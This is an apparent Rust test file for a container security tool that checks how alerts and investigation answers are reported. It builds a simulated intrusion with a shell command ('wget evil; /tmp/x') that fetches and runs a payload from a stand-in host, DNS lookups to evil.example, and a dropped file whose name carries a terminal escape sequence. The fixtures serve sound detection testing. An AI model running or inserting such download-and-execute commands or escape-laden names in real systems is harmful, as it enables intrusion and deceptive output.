//! Every answered question over four scenes, compared with the answers as people read them
//! (`tests/golden/`). `PLIMSOLL_UPDATE_GOLDEN=1` writes them anew; read the difference.

mod scene;

use plimsoll_ask::*;
use plimsoll_model::*;
use scene::*;

/// The web server's shell drops a program, runs it and calls home; `web` had another image before.
fn attack(world: &mut World) -> (Container, AlertId) {
    world.agent("start", -4000.0);
    let mut old = container("web", 'e', -3900.0, '0');
    world.container(&old, -3900.0);
    world.gone(&mut old, -600.0);
    let mut db = container("db", 'd', -3800.0, '2');
    db.addresses = vec!["10.0.0.5".into()];
    world.container(&db, -3800.0);
    let web = container("web", 'a', -500.0, '1');
    world.container(&web, -499.9);

    let tini = process(
        10,
        -500.0,
        "/usr/bin/tini",
        &["tini", "--", "nginx"],
        Entry::Init,
    );
    let nginx = process(11, -499.0, "/usr/sbin/nginx", &["nginx"], Entry::Init);
    let sh = process(
        20,
        1.0,
        "/bin/sh",
        &["sh", "-c", "wget evil; /tmp/x\x1b[31m"],
        Entry::Init,
    );
    let wget = process(21, 2.0, "/usr/bin/wget", &["wget", "evil"], Entry::Init);
    let x = process(22, 5.0, "/tmp/x\x1b[31m", &["/tmp/x"], Entry::Init);
    let line =
        |list: &[&Ancestor]| -> Vec<Ancestor> { list.iter().map(|a| (*a).clone()).collect() };

    world.event(&web, -499.9, &line(&[&tini]), exec(&tini, Origin::Image));
    world.event(
        &web,
        -499.0,
        &line(&[&nginx, &tini]),
        exec(&nginx, Origin::Image),
    );
    world.presence(&web, 0.0, 60.0, &[(&known()[2], 40), (&known()[1], 3)]);
    let peer = |ip: [u8; 4], port| SockAddr::Inet(ip.into(), port);
    world.event(
        &web,
        0.5,
        &line(&[&nginx, &tini]),
        EventKind::Accept(event::Connection {
            proto: Proto::Tcp,
            peer: peer([203, 0, 113, 9], 51234),
            local: Some(peer([10, 0, 0, 4], 80)),
            result: 0,
        }),
    );
    world.event(
        &web,
        1.0,
        &line(&[&sh, &nginx, &tini]),
        exec(&sh, Origin::Image),
    );
    world.event(
        &web,
        2.0,
        &line(&[&wget, &sh, &nginx, &tini]),
        exec(&wget, Origin::Image),
    );
    world.event(
        &web,
        2.1,
        &line(&[&wget, &sh, &nginx, &tini]),
        dns("evil.example", None),
    );
    world.event(
        &web,
        2.2,
        &line(&[&wget, &sh, &nginx, &tini]),
        dns("evil.example", Some([198, 51, 100, 7])),
    );
    world.event(
        &web,
        2.3,
        &line(&[&wget, &sh, &nginx, &tini]),
        connect([198, 51, 100, 7], 443),
    );
    world.event(
        &web,
        3.0,
        &line(&[&wget, &sh, &nginx, &tini]),
        file(FileOp::Create, "/tmp/x\x1b[31m", 0),
    );
    world.event(
        &web,
        4.0,
        &line(&[&sh, &nginx, &tini]),
        file(FileOp::Chmod, "/tmp/x\x1b[31m", 0o755),
    );
    let shown = world.event(
        &web,
        5.0,
        &line(&[&x, &sh, &nginx, &tini]),
        exec(&x, Origin::Upper),
    );
    let lineage = line(&[&x, &sh, &nginx, &tini]).into();
    let drift = Drift {
        nearest: vec![NearBehaviour {
            behaviour: known()[0].clone(),
            difference: "another parent and program".into(),
        }],
        techniques: vec!["T1059".into()],
        ..dropped(&web, "/tmp/x\x1b[31m", lineage, shown, 5.0)
    };
    let alert = world.alert("A-1", &web, 5.0, drift);
    world.event(
        &web,
        6.0,
        &line(&[&x, &sh, &nginx, &tini]),
        connect([10, 0, 0, 5], 6379),
    );
    world.event(
        &web,
        7.0,
        &line(&[&sh, &nginx, &tini]),
        file(FileOp::Unlink, "/tmp/x\x1b[31m", 0),
    );
    world.event(
        &web,
        8.0,
        &line(&[&x, &sh, &nginx, &tini]),
        EventKind::Exit { code: 0, signal: 9 },
    );
    let bash = process(30, 20.0, "/bin/bash", &["bash"], Entry::ExecSession);
    world.event(&web, 20.0, &line(&[&bash]), exec(&bash, Origin::Image));
    (web, alert)
}

#[test]
fn the_attack_is_told_after_the_container_is_gone() {
    let mut world = World::new();
    let (mut web, alert) = attack(&mut world);
    world.gone(&mut web, 30.0);
    check(
        "attack.txt",
        &answers(&world, &Known, &Subject::Alert(alert), 40.0),
    );
}

#[test]
fn nothing_recorded_is_unknown_and_never_did_not_happen() {
    let mut world = World::new();
    world.agent("start", -10.0);
    let quiet = container("quiet", 'c', 0.0, '3');
    world.container(&quiet, 0.0);
    let text = answers(
        &world,
        &NoBaselines,
        &Subject::Container("quiet".into()),
        30.0,
    );
    for wrong in [
        "did not happen",
        "no connection was made",
        "nothing happened",
    ] {
        assert!(!text.contains(wrong), "{wrong}");
    }
    check("quiet.txt", &text);
}

#[test]
fn gaps_in_the_interval_make_every_answer_partial() {
    let mut world = World::new();
    let (mut web, alert) = attack(&mut world);
    world.gap(
        Some(&web),
        Stage::BulkRing,
        3.0,
        6.0,
        Some(17),
        "the ring was full",
    );
    world.gap(None, Stage::Queue, 6.0, 7.0, None, "the queue was full");
    world.agent("stop", 10.0);
    world.agent("start", 15.0);
    let anchor = ClockAnchor {
        boot: at(9.0).boot,
        wall: at(9.0).wall,
        uncertainty_ns: 50,
        step_ns: -2_000_000_000,
    };
    world.put(at(9.0), None, Record::Clock(anchor));
    world.gone(&mut web, 30.0);
    // retention took the observation behind the alert
    let pruned = world
        .records
        .iter()
        .position(|(s, _, b)| *s == at(5.0) && matches!(b, Body::Record(Record::Observation(_))))
        .unwrap();
    world.records[pruned].2 = Body::Pruned;
    check(
        "gaps.txt",
        &answers(&world, &Known, &Subject::Alert(alert), 40.0),
    );
}

#[test]
fn of_two_instances_with_one_name_the_latest_is_meant_and_that_is_said() {
    let mut world = World::new();
    attack(&mut world);
    check(
        "twins.txt",
        &answers(&world, &Known, &Subject::Container("web".into()), 40.0),
    );
}

#[test]
fn a_container_found_running_is_not_claimed_to_be_known_from_its_start() {
    let mut world = World::new();
    world.agent("start", 0.0);
    let mut old = container("old", 'f', 1.0, '4');
    old.found_running = true;
    old.unknown_because = "the runtime's socket was not found".into();
    old.service = None;
    world.container(&old, 1.0);
    let text = answers(
        &world,
        &NoBaselines,
        &Subject::Container("old".into()),
        30.0,
    );
    check("found_running.txt", &text);
}

#[test]
fn what_is_not_there_is_said() {
    let mut world = World::new();
    world.agent("start", 0.0);
    let one = |subject| {
        ask(
            &world,
            &NoBaselines,
            &Ask {
                question: Question::Q1,
                subject,
                around_ns: None,
                now: at(1.0).wall,
                read_max: plimsoll_ask::READ_MAX,
            },
        )
        .unwrap_err()
        .to_string()
    };
    assert!(one(Subject::Container("nobody".into())).starts_with("no container \"nobody\""));
    assert!(one(Subject::Alert(AlertId::parse("A-0").unwrap())).starts_with("no alert A-0"));
}
